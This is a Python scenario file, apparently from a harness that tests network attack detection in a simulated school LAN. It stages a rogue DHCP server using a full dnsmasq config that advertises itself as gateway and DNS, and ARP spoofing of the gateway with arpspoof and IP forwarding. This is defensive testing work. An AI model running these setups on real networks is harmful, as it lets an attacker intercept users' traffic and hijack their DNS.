# SPDX-License-Identifier: Apache-2.0
"""Attacks on the local network: who hands out addresses, who is the gateway."""

import signal
import time

from acts import fetch, greet_gateway, join
from scenario import ATTACK, Scenario

ROGUE_LEASES = """no-resolv
no-hosts
port=0
user=root
keep-in-foreground
log-facility=-
pid-file={folder}/rogue.pid
dhcp-leasefile={folder}/rogue.leases
dhcp-authoritative
no-ping
interface=eth0
bind-interfaces
dhcp-range=10.20.9.10,10.20.9.50,255.255.240.0,10m
dhcp-option=option:router,10.20.1.16
dhcp-option=option:dns-server,10.20.1.16
"""

def rogue_dhcp(school):
    """A home router plugged into a wall socket: it and the real server both answer."""
    rogue = school["student-06"]
    config = rogue.write("rogue.conf", ROGUE_LEASES.format(folder=rogue.folder))
    with rogue.start("dnsmasq", "-C", config) as server:
        server.wait_port(67, "udp")
        for who in ("student-04", "student-05"):
            join(school, who)
            time.sleep(0.5)
            school.set_address(who)


def arp_spoofing(school):
    """One student's device takes the gateway's place towards another's."""
    victim, attacker = school["student-02"], school["student-05"]
    greet_gateway(school, "student-02")
    fetch(school, "student-02", "https://classroom.example/")
    attacker.run("sh", "-c", "echo 1 >/proc/sys/net/ipv4/ip_forward;"
                 "echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects;"
                 "echo 0 >/proc/sys/net/ipv4/conf/eth0/send_redirects")
    with attacker.start("arpspoof", "-i", "eth0", "-t", "10.20.1.12", "-r",
                        "10.20.0.1") as spoof:
        time.sleep(5)
        victim.run("ping", "-c", 3, "-i", 0.3, "203.0.113.10", check=False)
        fetch(school, "student-02", "http://weather.test/", check=False)
        time.sleep(3)
        spoof.stop(signal.SIGKILL)  # its own ending repairs the victims for ten seconds
    for who in ("student-02", "router"):
        school[who].run("ip", "neigh", "flush", "all")
    attacker.run("sh", "-c", "echo 0 >/proc/sys/net/ipv4/ip_forward")


SCENARIOS = [
    Scenario("rogue-dhcp", ATTACK,
             "A second DHCP server in the student segment offers addresses and itself as "
             "gateway and DNS server.", rogue_dhcp, ["udhcpc"], ["network.rogue-dhcp"],
             told_by=5),
    Scenario("arp-spoofing", ATTACK,
             "A student's device claims the gateway's address by ARP and relays another "
             "device's traffic.", arp_spoofing, ["arpspoof"],
             ["network.arp-spoof-gateway"], told_by=7),
]
